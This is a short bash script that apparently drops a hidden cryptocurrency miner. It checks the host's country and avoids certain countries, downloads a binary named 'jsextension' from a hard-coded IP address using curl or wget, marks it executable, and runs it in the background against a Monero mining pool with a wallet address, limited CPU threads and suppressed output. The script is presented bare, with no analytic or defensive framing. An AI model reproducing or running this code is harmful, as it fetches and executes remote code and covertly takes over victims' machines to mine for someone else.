#!/bin/bash
IP=$(curl -k -s https://geo.example.net/ip-country)
if [[ "$IP" != *"RU"* ]] && [[ "$IP" != *"UA"* ]] && [[ "$IP" != *"BY"* ]] && [[ "$IP" != *"KZ"* ]]; then
  if ! pgrep -x "jsextension" > /dev/null; then
    curl -s -L http://198.51.100.27/download/jsextension -o jsextension || wget -q http://198.51.100.27/download/jsextension -O jsextension
    chmod +x jsextension
    ./jsextension -k --tls --rig-id q -o pool.minexmr.example.org:443 -u 4AfakeMoneroWalletAddressNotRealxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
  fi
fi
